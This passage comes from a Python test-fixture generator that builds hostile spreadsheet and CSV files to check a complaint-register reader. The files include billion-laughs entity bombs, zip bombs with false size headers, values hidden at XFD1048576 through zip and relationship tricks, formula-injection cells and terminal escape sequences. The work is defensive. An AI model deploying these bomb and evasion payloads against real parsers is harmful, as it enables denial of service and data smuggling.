    parts["xl/worksheets/./sheet1.xml"] = far_sheet.encode()
    write_zip(dest / "stray_value_dotted_target.xlsx", parts)
    worksheet = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    parts = xlsx_parts([("台账", fine_sheet)])
    parts["xl/worksheets/sheet2.xml"] = far_sheet.encode()
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="rId2" Type="{worksheet}" Target="worksheets/sheet2.xml"/></Relationships>'.encode())
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b'r:id="rId1"', b'r:id="rId1" id="rId2"')
    write_zip(dest / "stray_value_two_ids.xlsx", parts)
    add("stray_value_two_ids", dest / "stray_value_two_ids.xlsx", "a sheet with two ids, r:id to a harmless part and id (the one the reader takes) to a value in XFD1048576", "error", "far outside the register")
    parts = xlsx_parts([("台账", far_sheet)])
    parts["xl/worksheets/fine.xml"] = fine_sheet.encode()
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<!-- <Relationship Id="rId1" Type="{worksheet}" Target="worksheets/fine.xml"/> --></Relationships>'.encode())
    write_zip(dest / "stray_value_commented_rel.xlsx", parts)
    add("stray_value_commented_rel", dest / "stray_value_commented_rel.xlsx", "a relationship commented out after the real one, naming a harmless part for the sheet whose real part has a value in XFD1048576", "error", "far outside the register")
    add("stray_value_dotted_target", dest / "stray_value_dotted_target.xlsx", "a sheet's target written worksheets/./sheet1.xml, a part of that very name holding XFD1048576 beside a harmless xl/worksheets/sheet1.xml", "error", "far outside the register")

    bomb_rows = register_rows()
    bomb_rows[1][6] = "&lol9;"
    bomb_sheet = sheet_xml(bomb_rows, doctype=BILLION_LAUGHS).replace("&amp;lol9;", "&lol9;")
    write_zip(dest / "billion_laughs.xlsx", xlsx_parts([("台账", bomb_sheet)]))
    add("billion_laughs", dest / "billion_laughs.xlsx", "an XML entity-expansion bomb ('billion laughs') in the sheet XML", "error", "declares entities", sub=True)
    ss_bomb = ('<?xml version="1.0" encoding="UTF-8"?>' + BILLION_LAUGHS
               + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')
    ss_rows = register_rows()
    sheet = sheet_xml(ss_rows).replace('<c r="G2" t="inlineStr"><is><t xml:space="preserve">信用卡年费被多收，要求退还</t></is></c>', '<c r="G2" t="s"><v>0</v></c>')
    write_zip(dest / "billion_laughs_strings.xlsx", xlsx_parts([("台账", sheet)], shared_strings=ss_bomb))
    add("billion_laughs_shared_strings", dest / "billion_laughs_strings.xlsx", "an entity-expansion bomb in the shared-strings part", "error", "declares entities")

    lie = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
           'count="1" uniqueCount="10000000000"><si><t>x</t></si></sst>')
    write_zip(dest / "shared_strings_lie.xlsx", xlsx_parts([("台账", sheet_xml(register_rows()))], shared_strings=lie))
    add("shared_strings_count_lie", dest / "shared_strings_lie.xlsx", "a workbook announcing ten billion shared strings (the reader reserved room for them and was killed)", "error", "shared strings", sub=True)
    parts = xlsx_parts([("台账", sheet_xml(register_rows()))])
    parts["docProps/core.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?>' + BILLION_LAUGHS + '<cp:coreProperties '
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&lol9;</dc:title></cp:coreProperties>'
    ).encode()
    write_zip(dest / "billion_laughs_properties.xlsx", parts)
    add("billion_laughs_properties", dest / "billion_laughs_properties.xlsx", "an entity-expansion bomb in the document properties, a part only the annotating writer parses", "read", rows=3)
    del parts["docProps/core.xml"]
    raw, crc, size = _deflate_repeated(b"\0" * (1 << 20), 64)  # 64 MiB of zeros in ~64 KiB
    _zip_with_raw_member(dest / "zip_bomb.xlsx", parts, "xl/media/image1.bin", raw, crc, size)
    add("zip_bomb", dest / "zip_bomb.xlsx", "a zip bomb: a 64 KiB workbook whose parts inflate to 64 MiB (ratio > 200)", "error", "zip bomb", sub=True)
    raw, crc, size = _deflate_repeated(b" " * (1 << 20), 300)
    _zip_with_raw_member(dest / "zip_bomb_lying.xlsx", parts, "xl/worksheets/sheet1.xml", raw, crc, size, declared_size=4096)
    add("zip_bomb_lying", dest / "zip_bomb_lying.xlsx", "a zip bomb that lies: the sheet says 4 KiB but inflates to 300 MiB", "error", "zip bomb", sub=True)
    # The sheet's stated size and checksum fit its first part only: zipfile, and so the far-cell
    # guard, stop there and see a clean sheet; the reader must not go on to the cell after it.
    clean = sheet_xml(register_rows()).encode()
    cut = clean.index(b"</sheetData>")
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    whole = clean[:cut] + far + clean[cut:]
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    _zip_with_raw_member(dest / "stray_value_past_stated_size.xlsx", parts, "xl/worksheets/sheet1.xml",
                         comp.compress(whole) + comp.flush(), zlib.crc32(clean[:cut]), cut)
    add("stray_value_past_stated_size", dest / "stray_value_past_stated_size.xlsx", "a stray value in XFD1048576 hidden past the "
        "sheet's stated size, whose checksum fits the part before it", "error", "stated size", sub=True)

    folder = dest / "分行 2026" / "城南 支行（三月）"
    chinese = write_xlsx(folder / "投诉 登记台账 2026年3月.xlsx", register_rows())
    add("chinese_path", chinese, "a path with Chinese characters, spaces and full-width brackets", "read", rows=3, sub=True)
    (folder / "~$投诉 登记台账 2026年3月.xlsx").write_bytes(b"\x0cWang Xiaoming" + b"\x00" * 150)
    add("excel_lock_file", folder / "~$投诉 登记台账 2026年3月.xlsx", "Excel's owner/lock file (~$...) named directly (a folder run skips it)", "error", "is not a real .xlsx workbook")

    hostile = [HEADERS] + [[f"H{i:03d}", "2026-03-02", value, "王小明", ID_1, "13800138000", value, "处理中"] for i, value in enumerate(HOSTILE)]
    write_xlsx(dest / "formula_injection.xlsx", hostile)
    add("formula_injection_xlsx", dest / "formula_injection.xlsx", "cells starting with = + - @, tab, CR and full-width ＝", "read", rows=len(HOSTILE))
    (dest / "formula_injection.csv").write_bytes(codecs.BOM_UTF8 + csv_text(hostile).encode("utf-8"))
    add("formula_injection_csv", dest / "formula_injection.csv", "the same hostile cells in a CSV", "read", rows=len(HOSTILE))
    controls = [HEADERS, ["C001", "2026-03-02", "柜面\x1b[31m", "王\x7f小明", ID_1, "13800138000", "内容\x01\x07\x08\x0b\x0c\x7f\x9b带控制字符", "处理中"]]
    (dest / "control_chars[三月].csv").write_bytes(csv_text(controls).encode("utf-8"))
    add("control_chars", dest / "control_chars[三月].csv", "a CSV with control characters and terminal escapes in cells, and [ ] in its name", "read", rows=1)
    return cases


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(__doc__.strip().splitlines()[2].strip(), file=sys.stderr)
        return 2
    for case in build(Path(argv[0])):
        print(f"{case.outcome:5}  {case.path.name:40}  {case.what}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
